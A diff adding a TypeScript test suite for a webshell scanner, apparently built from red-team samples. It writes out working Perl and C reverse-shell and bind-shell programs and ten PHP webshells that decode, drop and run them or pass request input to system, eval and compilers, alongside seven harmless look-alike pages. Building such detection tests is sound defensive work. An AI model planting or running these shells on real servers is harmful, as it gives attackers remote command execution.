@@ -1,0 +1,58 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { deflateRawSync } from 'node:zlib';
+import { createScanner } from './scanner.js';
+
+// Session 35: the techniques of the real webshells the held-out sets H8 to H11 missed at their first scan
+// (bench/redteam/README-corpus-s35.md), and the open respellings of session 34's rules, written again by us as
+// harmless pages, each with look-alikes an application may hold. Nothing here is copied from a sample.
+const scanner = createScanner({});
+const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
+const b64 = (t: string | Buffer) => Buffer.from(t).toString('base64');
+const wrap = (s: string, n: number, sep = '\n') => s.match(new RegExp(`.{1,${n}}`, 'g'))!.join(sep);
+
+// (scripts of our own a dropper writes out: a Perl connect-back, a Perl listener, a C connect-back; never run)
+const PERL_BACK = `#!/usr/bin/perl\nuse Socket;\n$h = $ARGV[0]; $p = $ARGV[1];\nsocket(SK, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die "socket: $!";\nconnect(SK, sockaddr_in($p, inet_aton($h))) or die "connect: $!";\nopen(STDIN, ">&SK"); open(STDOUT, ">&SK"); open(STDERR, ">&SK");\nsystem("/bin/sh");\n`;
+const PERL_BIND = `#!/usr/bin/env perl\nuse Socket;\nsocket(L, &PF_INET, &SOCK_STREAM, getprotobyname('tcp')) || die;\nbind(L, sockaddr_in($ARGV[0], INADDR_ANY)) || die;\nlisten(L, 1) || die;\naccept(C, L);\nopen STDIN, "<&C"; open STDOUT, ">&C"; open STDERR, ">&C";\nexec "/bin/sh -i";\n`;
+const C_BACK = `#include <stdlib.h>\n#include <sys/socket.h>\n#include <netinet/in.h>\nint main(int c, char **v) {\n  struct sockaddr_in a; int s = socket(AF_INET, SOCK_STREAM, 0);\n  a.sin_family = AF_INET; a.sin_port = htons(atoi(v[2])); a.sin_addr.s_addr = inet_addr(v[1]);\n  connect(s, (struct sockaddr *)&a, sizeof a);\n  dup2(s, 0); dup2(s, 1); dup2(s, 2);\n  execl("/bin/sh", "sh", (char *)0);\n  return 0;\n}\n`;
+
+const MALICIOUS: [string, string, string][] = [
+  ['PHP 4\'s long POST array read through $GLOBALS, then a command run', '/var/www/html/a.php', `<?php\n$c = $GLOBALS['HTTP_POST_VARS']['c'];\nsystem($c);\n`],
+  ['PHP 4\'s long GET array read through ${\'...\'}, then evaluated', '/var/www/html/b.php', `<?php\n$v = \${'HTTP_GET_VARS'};\neval($v['x']);\n`],
+  ['a Perl connect-back in base64 wrapped at 76, written out and run with an address from the request', '/var/www/html/d.php', `<?php\n$pl = "${wrap(b64(PERL_BACK), 76)}";\n$f = fopen('/tmp/.c', 'w'); fwrite($f, base64_decode($pl)); fclose($f);\n$out = run('perl /tmp/.c ' . $_POST['h'] . ' ' . $_POST['p']);\n`],
+  ['a Perl listener in base64 wrapped at 76 with CRLF, written out, started with an undefined command (a cut fragment)', '/var/www/html/e.php', `<?php\n$bind = "${wrap(b64(PERL_BIND), 76, '\r\n')}";\n@file_put_contents($tmp, base64_decode($bind));\n$command = 'perl ' . $tmp . ' ' . $_POST['port'];\nrun($cmd);\n`],
+  ['a C connect-back deflated, in base64 lines of 100 split by spaces and blank lines', '/var/www/html/f.php', `<?php\n$c = "${wrap(b64(deflateRawSync(Buffer.from(C_BACK))), 100, ' \n\n')}";\nfile_put_contents('bc.c', gzinflate(base64_decode($c)));\nshell_exec('gcc -o bc bc.c');\n`],
+  ['a C connect-back in base64 pieces joined by "."', '/var/www/html/g.php', `<?php\n$c = "${wrap(b64(C_BACK), 90, '" .\n    "')}";\n$h = fopen('/tmp/bc.c', 'wb'); fwrite($h, base64_decode($c)); fclose($h);\n`],
+  ['a command wrapper given the request\'s option beside the code\'s own script path', '/var/www/html/h.php', `<?php\nfunction runit($c) {\n  $c = $c . ' 2>&1';\n  if (is_callable('exec')) { @exec($c, $lines); return implode("\\n", $lines); }\n  return '';\n}\n$opt = $_GET['opt'];\n$script = getcwd() . '/' . md5(time());\nif (file_put_contents($script, 'print(1)') !== false) { echo runit('python ' . $opt . ' ' . $script); unlink($script); }\n`],
+  ['the request\'s C source written to a file, compiled and run through a command wrapper', '/var/www/html/i.php', `<?php\nfunction sh($c) { ob_start(); system($c . ' 2>&1'); return ob_get_clean(); }\n$src = $_REQUEST['src'];\n$n = md5(rand());\nfile_put_contents($n . '.c', $src);\necho sh('gcc ' . $n . '.c -o ' . $n . '.bin');\necho sh('./' . $n . '.bin');\n`],
+  ['the request\'s Java wrapped in a class of its own, written out and compiled', '/var/www/html/j.php', `<?php\nfunction sh($c) { return shell_exec($c); }\n$gp = array_merge($_POST, $_GET);\n$code = $gp['code'];\n$k = 'K' . substr(md5(time()), 0, 8);\n$code = "class " . $k . " { " . $code . " }";\nif (file_put_contents($k . '.java', $code) !== false) { echo sh('javac ' . $k . '.java'); echo sh('java ' . $k); }\n`],
+  ['a command built from a value of the whole $_SERVER picked by position', '/var/www/html/k.php', `<?php\n$v = array_values($_SERVER);\n$r = system('' . $v[6]);\n`],
+];
+
+const LOOKALIKES: [string, string, string][] = [
+  ['an old page printing a value of $GLOBALS[\'HTTP_GET_VARS\'], escaped', '/var/www/html/c.php', `<?php\n$q = $GLOBALS['HTTP_GET_VARS']['q'];\necho htmlspecialchars($q);\n`],
+  ['a Perl script copying STDERR to STDOUT and talking to a socket', '/var/www/cgi-bin/status.pl', `#!/usr/bin/perl\nuse Socket;\nopen(STDERR, ">&STDOUT");\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or die;\nconnect(S, sockaddr_in(80, inet_aton('127.0.0.1'))) or die;\nprint S "GET / HTTP/1.0\\r\\n\\r\\n"; print while <S>;\n`],
+  ['a PHP file holding a certificate in base64 lines of 64 beside base64_decode', '/var/www/html/cert.php', `<?php\n$pem = "-----BEGIN CERTIFICATE-----\n${wrap(b64(Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 151 + 7) % 256))), 64)}\n-----END CERTIFICATE-----\n";\n$der = base64_decode(preg_replace('/-----[^-]+-----|\\s/', '', $pem));\necho strlen($der);\n`],
+  ['an image resizer writing the upload to a file and converting it', '/var/www/html/resize.php', `<?php\nfunction sh($c) { exec($c, $o, $rc); return $rc; }\n$tmp = tempnam('/tmp', 'img');\nfile_put_contents($tmp, file_get_contents($_FILES['f']['tmp_name']));\nsh('convert ' . escapeshellarg($tmp) . ' -resize 200x200 ' . escapeshellarg($tmp . '.png'));\n`],
+  ['a command wrapper given a fixed command and an escaped request value', '/var/www/html/ping.php', `<?php\nfunction sh($c) { exec($c, $lines); return implode("\\n", $lines); }\necho sh('ping -c 1 ' . escapeshellarg($_GET['host']));\n`],
+  ['a page printing every server variable', '/var/www/html/info.php', `<?php\nforeach (array_values($_SERVER) as $i => $v) echo htmlspecialchars($i . ': ' . $v), "<br>";\n`],
+  ['a value made of the request\'s own, printed escaped', '/var/www/html/greet.php', `<?php\n$n = $_GET['n'];\n$n = 'Hello, ' . $n . '!';\necho htmlspecialchars($n);\n`],
+];
+
+describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
+  for (const [name, path, src] of MALICIOUS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
+    });
+  }
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 10));
+
+  for (const [name, path, src] of LOOKALIKES) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
+    });
+  }
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 7));
+});
